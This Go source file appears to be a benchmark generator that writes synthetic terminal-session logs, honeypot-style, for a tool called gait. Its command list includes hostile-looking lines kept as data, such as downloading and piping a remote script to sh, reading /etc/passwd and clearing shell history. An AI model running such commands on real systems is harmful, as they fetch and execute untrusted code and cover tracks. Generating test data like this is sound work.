package main

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"os"
	"strconv"

	"gait"
	"gait/internal/jsonstr"
)

// generator writes shards of made-up sessions. The same seed gives the same
// bytes.
type generator struct {
	w    *bufio.Writer
	rand *rand.Rand
	line []byte
	size int64
}

// create runs write on a new file and gives the file's size.
func create(path string, seed uint64, write func(*generator)) (int64, error) {
	f, err := os.Create(path)
	if err != nil {
		return 0, err
	}
	g := &generator{w: bufio.NewWriterSize(f, 1<<20), rand: rand.New(rand.NewPCG(seed, seed))}
	write(g)
	if err := g.w.Flush(); err != nil {
		return 0, err
	}
	return g.size, f.Close()
}

// visitor is a session that is being written.
type visitor struct {
	id    string
	t     int64 // microseconds
	left  int   // commands
	queue []step
}

type step struct {
	gap  int64 // microseconds
	ch   byte
	data []byte
}

func (g *generator) put(line []byte) {
	n, _ := g.w.Write(line)
	g.size += int64(n)
}

func (g *generator) uuid() string {
	var b [16]byte
	binary.LittleEndian.PutUint64(b[:], g.rand.Uint64())
	binary.LittleEndian.PutUint64(b[8:], g.rand.Uint64())
	return fmt.Sprintf("%x-%x-4%03x-8%03x-%x", b[:4], b[4:6], b[6], b[8], b[10:])
}

func (g *generator) header(id string) {
	g.put(fmt.Appendf(g.line[:0], `{"sid":"%s","hdr":{"version":2,"width":80,"height":24,"timestamp":%d,"env":{"SHELL":"/bin/bash","TERM":"xterm-256color"}}}`+"\n",
		id, 1714521600+g.rand.IntN(86400)))
}

func (g *generator) event(id string, t int64, ch byte, data []byte) {
	b := append(append(append(g.line[:0], `{"sid":"`...), id...), `","t":`...)
	b = strconv.AppendInt(b, t/1e6, 10)
	b = append(b, '.')
	b = append(b, strconv.Itoa(int(1e6 + t%1e6))[1:]...)
	b = append(append(append(b, `,"ch":"`...), ch), `","d":"`...)
	b = append(jsonstr.Append(b, data), "\"}\n"...)
	g.line = b
	g.put(b)
}

var (
	tools = []string{"ls -la", "cat /etc/passwd", "uname -a", "id", "ps aux | grep ssh", "wget http://198.51.100.7/x.sh", "cd /tmp", "rm -rf x",
		"curl -s http://203.0.113.9/a | sh", "history -c", "crontab -l", "ssh root@198.51.100.9", "netstat -tlpn | head", "df -h"}
	prompt = []byte("\x1b[01;32mroot@web01\x1b[00m:\x1b[01;34m~\x1b[00m# ")
)

// command fills a visitor's queue with one command: keys with their echoes, or
// a paste, then output and a prompt.
func (g *generator) command(v *visitor) {
	text := tools[g.rand.IntN(len(tools))]
	v.queue = v.queue[:0]
	if g.rand.IntN(4) == 0 {
		v.queue = append(v.queue, step{int64(1+g.rand.IntN(5)) * 1e6, 'i', []byte(text + "\r")})
	} else {
		for i := range len(text) {
			gap := int64(60_000 + g.rand.ExpFloat64()*110_000)
			v.queue = append(v.queue, step{gap, 'i', []byte{text[i]}}, step{400, 'o', []byte{text[i]}})
		}
		v.queue = append(v.queue, step{150_000, 'i', []byte{'\r'}})
	}
	out := make([]byte, 0, 600)
	if g.rand.IntN(6) == 0 {
		out = append(out, "\r\nbash: command not found\r\n"...)
	}
	for n := 40 + g.rand.IntN(520); len(out) < n; {
		out = append(out, "drwxr-xr-x 2 root root 4096 May  8 10:00 \x1b[0;34mdir"...)
		out = strconv.AppendInt(out, g.rand.Int64N(1000), 10)
		out = append(out, "\x1b[0m\r\n"...)
	}
	v.queue = append(v.queue, step{int64(2000 + g.rand.IntN(40_000)), 'o', out}, step{300, 'o', prompt})
}

// typical writes sessions of about 17 KB, six at a time, until size is reached.
func typical(size int64) func(*generator) {
	return func(g *generator) {
		var live []*visitor
		for g.size < size || len(live) > 0 {
			for len(live) < 6 && g.size < size {
				v := &visitor{id: g.uuid(), left: 4 + g.rand.IntN(14)}
				g.header(v.id)
				g.event(v.id, 2000, 'o', prompt)
				live = append(live, v)
			}
			i := g.rand.IntN(len(live))
			if v := live[i]; !g.step(v) {
				live = append(live[:i], live[i+1:]...)
			}
		}
	}
}

// step writes a visitor's next event; false when there is none.
func (g *generator) step(v *visitor) bool {
	if len(v.queue) == 0 {
		if v.left == 0 {
			return false
		}
		v.left--
		g.command(v)
	}
	s := v.queue[0]
	v.queue = v.queue[1:]
	v.t += s.gap
	g.event(v.id, v.t, s.ch, s.data)
	return true
}

// oneSession writes a session of n events, a line end every so many of them.
func oneSession(n, every int) func(*generator) {
	return func(g *generator) {
		id := g.uuid()
		g.header(id)
		t := int64(0)
		for i := range n {
			t += 20_000 + g.rand.Int64N(120_000)
			switch {
			case i%every == every-1:
				g.event(id, t, 'i', []byte{'\r'})
			case every > 2 && i%4 == 3:
				g.event(id, t, 'o', []byte("out\r\n"))
			default:
				g.event(id, t, 'i', []byte{'a' + byte(g.rand.IntN(26))})
			}
		}
	}
}

// manySessions writes n sessions of a number of events each, one after the
// other, or all in turn.
func manySessions(n, events int, inTurn bool) func(*generator) {
	return func(g *generator) {
		ids := make([]string, n)
		for i := range ids {
			ids[i] = g.uuid()
		}
		put := func(i, e int) {
			ch := []byte{'a' + byte(e%26)}
			if e%7 == 6 {
				ch[0] = '\r'
			}
			g.event(ids[i], int64(e)*150_000, 'i', ch)
		}
		if inTurn {
			for e := range events {
				for i := range n {
					put(i, e)
				}
			}
			return
		}
		for i := range n {
			for e := range events {
				put(i, e)
			}
		}
	}
}

// engine and version of what is measured.
const measured = "gait " + gait.Version
